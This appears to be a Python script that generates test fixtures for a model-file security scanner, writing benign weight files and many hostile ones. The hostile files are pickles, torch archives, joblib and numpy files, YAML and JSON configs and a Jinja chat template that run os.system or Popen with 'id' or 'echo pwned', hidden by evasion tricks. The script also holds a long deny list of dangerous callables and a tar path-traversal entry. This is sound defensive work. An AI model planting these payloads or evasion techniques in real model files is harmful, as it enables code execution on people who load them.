# SPDX-License-Identifier: Apache-2.0
"""Writes files as people publish them, and as attackers do, into the folder given: benign/ and hostile/. Nothing here is ever loaded."""

import bz2
import collections
import gzip
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

import joblib
import numpy as np

target = sys.argv[1]


def write(kind, name, data):
    path = os.path.join(target, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


class Call:
    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def call(module, name, argument="echo pwned", protocol=4):
    """A pickle that calls module.name(argument), without the module being here."""
    if protocol < 4:
        return b"c%s\n%s\n(S'%s'\ntR." % (module.encode(), name.encode(), argument.encode())
    return b"\x80\x04" + short(module) + short(name) + b"\x93" + short(argument) + b"\x85R."


def archive(members, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buffer.getvalue()


def torch_archive(data, folder="archive", extra={}):
    return archive({f"{folder}/data.pkl": data, f"{folder}/byteorder": b"little", f"{folder}/data/0": os.urandom(64), f"{folder}/version": b"3\n", **extra})


def tensor_pickle(protocol=2):
    """What torch.save writes for {'w': tensor}: a persistent id in a call of _rebuild_tensor_v2."""
    return (
        b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storageq\x03ctorch\nFloatStorage\nq\x04"
        b"X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x10tq\x07QK\x00K\x10\x85q\x08K\x01\x85q\x09\x89ccollections\nOrderedDict\nq\x0a)Rq\x0btq\x0cRq\x0ds."
    )


def legacy_torch(data):
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}]
    return b"".join(pickle.dumps(value, 2) for value in head) + data + pickle.dumps(["0"], 2) + struct.pack("<q", 16) + os.urandom(64)


def npy(array):
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def npz(save=np.savez, **arrays):
    buffer = io.BytesIO()
    save(buffer, **arrays)
    return buffer.getvalue()


def dumped(value, **options):
    buffer = io.BytesIO()
    joblib.dump(value, buffer, **options)
    return buffer.getvalue()


def opcodes_in_array():
    """joblib skips an array's bytes, Python's own loader takes them for opcodes: here they are some, and the padding's length is MARK."""
    code = b"cos\nsystem\n(S'id'\ntR."
    file = dumped(np.frombuffer(code.ljust(200), dtype="u1"))
    start = file.index(code)
    padding = file.rindex(b"b", 0, start) + 1
    return file[:padding] + b"(" + b"0" * 40 + file[start:]


def tarred(members, mode="w"):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def safetensors(header=None, data=bytes(16)):
    text = json.dumps(header or {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    return struct.pack("<Q", len(text)) + text + data


# Benign: what weights, arrays and plain data look like.
plain = {"a": [1, 2.5, (1, 2, 3, 4), {1, 2}, frozenset([3]), b"xx", 2**70, "é"], "b": collections.OrderedDict(a=1), "c": np.arange(5), "d": np.float32(1)}
for protocol in range(6):
    write("benign", f"plain{protocol}.pkl", pickle.dumps(plain, protocol))
write("benign", "large.pkl", pickle.dumps({f"key{i}": [i, str(i)] for i in range(50_000)}))
write("benign", "two.pkl", pickle.dumps(1) + pickle.dumps([2]))
write("benign", "model.pt", torch_archive(tensor_pickle()))
write("benign", "pytorch_model.bin", torch_archive(tensor_pickle(), "pytorch_model"))
write("benign", "legacy.pth", legacy_torch(tensor_pickle()))
write("benign", "array.npy", npy(np.arange(100.0)))
write("benign", "structure.npy", npy(np.zeros(3, dtype=[("a", "f4", (2,)), ("b", "U3")])))
write("benign", "arrays.npz", npz(a=np.arange(3), b=np.ones((2, 2))))
write("benign", "packed.npz", npz(np.savez_compressed, a=np.zeros(100_000)))
write("benign", "objects.joblib", dumped({"w": np.ones((50, 3)), "o": np.array([{"a": 1}, "b"], dtype=object), "s": np.array(["a", "bcd"])}))
write("benign", "zlib.joblib", dumped({"w": np.ones((50, 3))}, compress=("zlib", 3)))
write("benign", "gzip.joblib", dumped({"w": np.ones((50, 3))}, compress=("gzip", 3)))
write("benign", "model.safetensors", safetensors())
write("benign", "types.joblib", dumped([np.zeros(3, dtype=t) for t in ("f4", "f8", "i8", "u2", "?", "c16", "S5", "U3", "O")] + ["a"], protocol=4))
write("benign", "unaligned.joblib", dumped({"w": np.ones((50, 3))}, compress=("zlib", 1)))
write("benign", "model.safetensors.index.json", b'{"metadata": {}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}')
write("benign", "tokenizer_config.json", b'{"chat_template": "{% for m in messages %}{{ m[\'content\'] | trim }}{% endfor %}"}')
write("benign", "config.json", b'{"model_type": "bert", "x": NaN}')
write("benign", "README.md", b"# Model\n\n```python\nimport torch\n```\n")
write("benign", "merges.txt", "i n\nĠ t\ncos\nsystem\n".encode())
write("benign", "model.tar", tarred({"config.json": b"{}", "model.safetensors": safetensors()}))
write("benign", "model.tar.gz", tarred({"a.txt": b"hello"}, "w:gz"))

# Hostile: calls of functions that do harm, in every encoding.
for protocol in range(6):
    write("hostile", f"system{protocol}.pkl", pickle.dumps(Call(os.system, "echo pwned"), protocol))
dangerous = """os.system posix.system nt.system subprocess.Popen subprocess.check_output builtins.eval builtins.exec builtins.compile builtins.__import__
builtins.getattr builtins.open builtins.breakpoint __builtin__.eval __builtin__.execfile operator.attrgetter operator.methodcaller operator.itemgetter functools.partial
importlib.import_module runpy.run_path runpy._run_code timeit.timeit code.InteractiveInterpreter.runcode code.interact ctypes.CDLL webbrowser.open
asyncio.unix_events._UnixSubprocessTransport._start pip.main pip._internal.main ensurepip._run_pip socket.socket marshal.loads types.FunctionType types.CodeType
numpy.testing._private.utils.runstring numpy.f2py.crackfortran.getlincoef numpy.load torch.load torch.hub.load torch.serialization.load torch.utils.collect_env.run
torch._inductor.codecache.compile_file torch.jit.unsupported_tensor_ops.execWrapper torch.utils.bottleneck.__main__.run_cprofile
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch._dynamo.guards.GuardBuilder.get
torch.utils.data.datapipes.utils.decoder.basichandlers torch.utils._config_module.ConfigModule.load_config bdb.Bdb.run pdb.run pdb.Pdb.run shutil.rmtree
cProfile.run cProfile.runctx profile.run profile.Profile.runctx trace.Trace.run idlelib.pyshell.ModifiedInterpreter.runcode idlelib.run.Executive.runcode
idlelib.calltip.get_entity idlelib.autocomplete.AutoComplete.get_entity idlelib.debugobj.ObjectTreeItem.SetText lib2to3.pgen2.grammar.Grammar.loads
lib2to3.pgen2.pgen.ParserGenerator.make_label distutils.file_util.write_file distutils.spawn.spawn doctest.debug_script pydoc.pipepager pydoc.locate venv.create
pickle.loads _pickle.loads dill.loads cloudpickle.loads joblib.load pandas.read_pickle pty.spawn sys.exit ssl.get_server_certificate requests.api.get
aiohttp.request httplib.HTTPSConnection http.client.HTTPSConnection urllib.request.urlopen commands.getoutput logging.config.listen
multiprocessing.util.spawnv_passfds platform.popen site.addsitedir tempfile.mktemp unittest.mock._importer zipimport.zipimporter.load_module
_io.open io.open pathlib.Path.write_text uuid._get_command_stdout _osx_support._read_output imaplib.IMAP4_stream smtplib.SMTP ftplib.FTP antigravity.geohash""".split()
for index, path in enumerate(dangerous):
    module, name = path.rsplit(".", 1)
    if any(part[:1].isupper() for part in module.split(".")):
        parts = module.split(".")
        first = next(i for i, part in enumerate(parts) if part[:1].isupper() and i > 0)
        module, name = ".".join(parts[:first]), ".".join([*parts[first:], name])
    write("hostile", f"call-{path}.pkl", call(module, name, protocol=4 if index % 2 else 0))

evil = call("os", "system")
memo = b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x940" + b"0h\x00h\x01\x93" + short("id") + b"\x85R."
write("hostile", "memo.pkl", memo)
write("hostile", "memo-dup.pkl", b"\x80\x04" + short("posix") + b"q\x05" + b"0j\x05\x00\x00\x00" + short("system") + b"220" + b"0\x93" + short("id") + b"\x85R.")
write("hostile", "memo-overwritten.pkl", b"\x80\x04" + short("math") + b"q\x000" + short("os") + b"q\x000h\x00" + short("system") + b"\x93" + short("id") + b"\x85R.")
write("hostile", "escaped.pkl", b"Vo\\u0073\nVsyst\\u0065m\n\x93(Vid\ntR.")
write("hostile", "escaped-bytes.pkl", b"S'\\x6fs'\nS'system'\n\x93(S'id'\ntR.")
write("hostile", "computed.pkl", b"\x80\x04" + short("builtins") + short("str") + b"\x93" + short("os") + b"\x85R" + short("system") + b"\x93" + short("id") + b"\x85R.")
write("hostile", "inst.pkl", b"(S'echo pwned'\nios\nsystem\n.")
write("hostile", "inst-no-newline.pkl", b"(S'echo pwned'\nios\nsystemX")
write("hostile", "obj.pkl", b"(cos\nsystem\nS'echo pwned'\no.")
write("hostile", "newobj.pkl", b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93" + short("id") + b"\x85\x81.")
write("hostile", "newobj-ex.pkl", b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93" + short("id") + b"\x85}\x92.")
write("hostile", "build.pkl", b"\x80\x02cos\nenviron\n}b.")
write("hostile", "extension.pkl", b"\x80\x02\x82\x01(U\x02idtR.")
write("hostile", "broken-late.pkl", evil[:-1] + b"\xff\xff")
write("hostile", "truncated.pkl", evil[:-1])
write("hostile", "broken-text.pkl", b"cos\nsystem\n(S'id'\ntR\xff")
write("hostile", "second.pkl", pickle.dumps({"a": 1}) + evil)
write("hostile", "second-broken.pkl", pickle.dumps({"a": 1}) + evil[:-1])
write("hostile", "long-binary.pkl", b"\x80\x04B" + struct.pack("<I", 1 << 20) + bytes(1 << 20) + b"0" + evil[2:])
write("hostile", "false-frame.pkl", b"\x80\x04\x95" + struct.pack("<Q", 3) + evil[2:])
write("hostile", "nested.pkl", b"\x80\x04" + short("pickle") + short("loads") + b"\x93C" + bytes([len(evil)]) + evil + b"\x85R.")
write("hostile", "dotted.pkl", b"\x80\x04" + short("torch") + short("storage.os.system") + b"\x93" + short("id") + b"\x85R.")
write("hostile", "behind.bin", b"\x00\x01\x02\x03" + evil)
write("hostile", "renamed.txt", evil)
write("hostile", "renamed-text.txt", call("os", "system", protocol=0))
write("hostile", "renamed.safetensors", evil)
write("hostile", "config.bin", evil)

# In archives and arrays.
write("hostile", "evil.pt", torch_archive(evil))
write("hostile", "evil-folder.bin", torch_archive(evil, "x/y"))
write("hostile", "evil-extra.pt", torch_archive(tensor_pickle(), extra={"archive/extra.pkl": evil}))
write("hostile", "evil-data.pt", torch_archive(tensor_pickle(), extra={"archive/data/1": evil}))
write("hostile", "evil-hidden.pt", torch_archive(tensor_pickle(), extra={"archive/.data/x": evil}))
write("hostile", "evil-renamed.pt", archive({"archive/data.txt": evil}))
write("hostile", "torchscript.pt", torch_archive(tensor_pickle(), extra={"archive/code/__torch__.py": b"def f(): pass\n", "archive/constants.pkl": pickle.dumps((), 2)}))
write("hostile", "legacy.pth", legacy_torch(evil))
write("hostile", "legacy-magic.pth", b"\x80\x02" + b"cbuiltins\nint\nX\x01\x00\x00\x001\x85R." + evil + os.urandom(9))
write("hostile", "object.npy", npy(np.array([Call(os.system, "id")], dtype=object)))
write("hostile", "object.npz", npz(a=np.array([Call(os.system, "id")], dtype=object)))
write("hostile", "packed-object.npz", npz(np.savez_compressed, a=np.array([Call(os.system, "id")], dtype=object)))
write("hostile", "array.joblib", dumped({"w": np.ones(3), "o": np.array([Call(os.system, "id")], dtype=object)}))
write("hostile", "after-array.joblib", dumped([np.ones(1000), Call(os.system, "id")]))
write("hostile", "zlib.joblib", dumped([np.ones(3), Call(os.system, "id")], compress=("zlib", 3)))
write("hostile", "gzip.pkl.gz", gzip.compress(evil))
write("hostile", "bz2.joblib", bz2.compress(evil))
write("hostile", "raw-zlib.pkl", zlib.compress(evil))

write("hostile", "opcodes-in-array.pkl", opcodes_in_array())
write("hostile", "evil.zip", archive({"a/model.pkl": evil}))
write("hostile", "evil-deflated.zip", archive({"model.pkl": evil}, zipfile.ZIP_DEFLATED))
write("hostile", "evil.tar", tarred({"a/model.pkl": evil}))
write("hostile", "evil.tar.gz", tarred({"model.pkl": evil}, "w:gz"))
write("hostile", "evil-nested.zip", archive({"model.pt": torch_archive(evil)}))
good = archive({"archive/data.pkl": evil, "archive/version": b"3\n"})
broken = bytearray(good)
broken[14:18] = b"\xde\xad\xbe\xef"
at = broken.rindex(b"PK\x01\x02", 0, broken.rindex(b"PK\x01\x02"))
broken[at + 16 : at + 20] = b"\xde\xad\xbe\xef"
write("hostile", "crc.pt", bytes(broken))
for flag in (0x1, 0x20, 0x40):
    odd = bytearray(good)
    odd[6] |= flag
    odd[at + 8] |= flag
    write("hostile", f"flag-{flag:#x}.pt", bytes(odd))
names = bytearray(good)
names[30 : 30 + len("archive/data.pkl")] = b"archive/data.txt"
write("hostile", "two-names.pt", bytes(names))
write("hostile", "prepended.pt", b"#" * 100 + good)
write("hostile", "appended-zip.safetensors", safetensors() + good)
write("hostile", "seven.7z", b"7z\xbc\xaf\x27\x1c" + evil)
write("hostile", "rar.rar", b"Rar!\x1a\x07\x00" + evil)

# As text: lines that are thrown away, numbers as only Python writes them, more of everything than a scanner keeps.
text = call("os", "system", protocol=0)
write("hostile", "text-thrown-away.md", b"".join(b"Very nice model, line %d\n0" % i for i in range(100)) + text)
write("hostile", "text-numbers.txt", b"I1\n0F1.5\n0L5L\n0S'# Model'\n0" + text)
write("hostile", "text-index.txt", b"Np1_0\n0" + text)
write("hostile", "text-index-huge.txt", b"Np99999999999999999999\n0" + text)
write("hostile", "text-float.txt", b"F1e1_0\n0" + text)
write("hostile", "text-many-values.txt", b"N" * 1_000_100 + b"0" * 1_000_100 + text)
write("hostile", "text-many-marks.txt", b"(" * 1_000_100 + b"1" * 1_000_100 + text)
write("hostile", "text-many-indices.txt", b"N" + b"".join(b"p%d\n" % (i * 3) for i in range(100_010)) + b"0" + text)
write("hostile", "text-inst.txt", b"(S'id'\nios\nsystem\n.")
write("hostile", "text-obj.txt", b"(cos\nsystem\nS'id'\no.")
write("hostile", "text-setstate.txt", b"cbuiltins\nlist\n)R(dS'__setstate__'\ncos\nsystem\nsbS'id'\nb.")
for width, code in ((1, 0xF0), (2, 0xF0F0), (4, 0xF0F0)):
    write("hostile", f"extension{width}.txt", bytes([{1: 0x82, 2: 0x83, 4: 0x84}[width]]) + code.to_bytes(width, "little") + b"(Vid\ntR.")
write("hostile", "global-in-defaultdict.pkl", b"\x80\x02ccollections\ndefaultdict\ncos\nsystem\n\x85R.")
write("hostile", "names-as-bytes.pkl", b"\x80\x04C\x02osC\x06system\x93C\x02id\x85R.")
write("hostile", "getattr-chain.pkl", b"\x80\x04" + short("builtins") + short("getattr") + b"\x93" + short("torch") + short("os") + b"\x93" + short("system") + b"\x86R.")
for packing in ("bz2", "lzma", "xz"):
    write("hostile", f"{packing}-packed.joblib", dumped([np.ones(3), Call(os.system, "id")], compress=(packing, 3)))


def array_wrapper(code, shape, alignment=b"N", state=b""):
    """joblib's wrapper of an array, by hand: what its type and its alignment say decides where opcodes go on."""
    dtype = b"cnumpy\ndtype\n(U" + bytes([len(code)]) + code + b"\x89\x88tR" + state
    fields = b"U\x08subclasscnumpy\nndarray\nU\x05shapeK" + bytes([shape]) + b"\x85U\x05orderU\x01CU\x05dtype" + dtype + b"U\x0aallow_mmap\x89"
    return b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + fields + b"U\x1bnumpy_array_alignment_bytes" + alignment + b"ub"


def hidden_from(junk, length):
    """Bytes of an array for joblib; for who measures `junk` bytes only, opcodes that skip the call that follows."""
    code = b"cos\nsystem\n(S'id'\ntR."
    skip = junk + b"0N.B" + struct.pack("<I", length - len(junk) - 8 + len(code))
    return skip.ljust(length, b"\xff") + code + b"N."


write("hostile", "array-letter.joblib", array_wrapper(b"f", 16) + hidden_from(b"\xff" * 16, 64))
write("hostile", "array-state.joblib", array_wrapper(b"S2", 200, state=b"(K\x03U\x01|NNNK\x01K\x01K\x00tb") + b"\xff" * 200 + b"cos\nsystem\n(S'id'\ntR.".ljust(200, b"\0") + b"0N.")
for name, alignment in (("zero", b"K\x00"), ("list", b"]")):
    write("hostile", f"array-alignment-{name}.joblib", array_wrapper(b"u1", 10, alignment) + hidden_from(b"\x20" + b"\xff" * 9, 43))

# As something else: what stands at the beginning is not what a loader looks for.
for magic in ("GIF89a", "PAR1", "%PDF-1.7", "RIFFxxxxWEBP", "GGUF"):
    write("hostile", f"tar-called-{magic[:4].strip('%')}.bin", tarred({magic: b"x", "pickle": evil, "storages": b"", "tensors": b""}))
LAMBDA = b'\x89HDF\r\n\x1a\n{"class_name": "Lambda"}'.ljust(100, b"\0")


def safetensors_with(content, at=512):
    """Valid safetensors among whose numbers, at byte `at`, something else begins."""
    data = bytes(at - 512) + content
    header = json.dumps({"w": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}).encode().ljust(504)
    return struct.pack("<Q", 504) + header + data


write("hostile", "image.h5", b"\x89PNG\r\n\x1a\n".ljust(8192, b"\0") + LAMBDA)
write("hostile", "weights.h5", safetensors_with(LAMBDA))
write("hostile", "weights-later.bin", safetensors_with(LAMBDA, 8192))
end = bytearray(archive({"config.json": b'{"layers": [{"class_name": "Lambda"}]}', "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n"}))
at = end.rindex(b"PK\x05\x06")
end[at + 4 : at + 8] = b"\x01\x00\x01\x00"
write("hostile", "weights.keras", safetensors_with(bytes(end)))
inner = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}' % (len(text) + 1, len(text) + 1)
write("hostile", "header.safetensors", struct.pack("<Q", 86) + inner.ljust(84) + b"\n}0" + text)
write("hostile", "objects-in-npz-in.zip", archive({"x.npz": npz(a=np.array([Call(os.system, "id")], dtype=object))}))
write("hostile", "prepended.npz", b"#" * 10 + npz(a=np.array([Call(os.system, "id")], dtype=object)))
write("hostile", "outside.tar", tarred({"../../etc/cron.d/x": b"hello"}))

# Not pickles.
write("hostile", "overlap.safetensors", safetensors({"a": {"dtype": "U8", "shape": [16], "data_offsets": [0, 16]}, "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]}}))
write("hostile", "config.json", b'{"auto_map": {"AutoModel": "modeling.Evil"}}')
write("hostile", "modeling.py", b"import os\nos.system('id')\n")
write("hostile", "run", b"#!/bin/sh\nid\n")
write("hostile", "library.so", b"\x7fELF" + bytes(60))
write("hostile", "lambda.keras", archive({"config.json": b'{"layers": [{"class_name": "Lambda"}]}', "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(64)}))
for name, value in {
    "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tokenization.Evil", None]}},
    "model_index.json": {"_class_name": ["pipeline", "Evil"]},
    "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "evil.Evil"}],
    "adapter_config.json": {"auto_mapping": {"base_model_class": "Evil", "parent_library": "evil"}},
    "keras.json": {"class_name": "function", "module": "os", "config": "system"},
    "hydra.json": {"model": {"_target_": "os.system"}},
    "chat.json": {"chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
    "notebook.ipynb": {"nbformat": 4, "cells": []},
    "model.safetensors.index.json": {"weight_map": {"a": "../../other/model.safetensors"}},
}.items():
    write("hostile", name, json.dumps(value).encode())
write("hostile", "hyperparams.yaml", b"a: !!python/object/apply:os.system ['id']\n")
write("hostile", "hydra.yaml", b"model:\n  _target_: os.system\n")
write("hostile", "environment.pth", b"import os; os.system('id')\n")
write("hostile", "setup.sh", b"id\n")
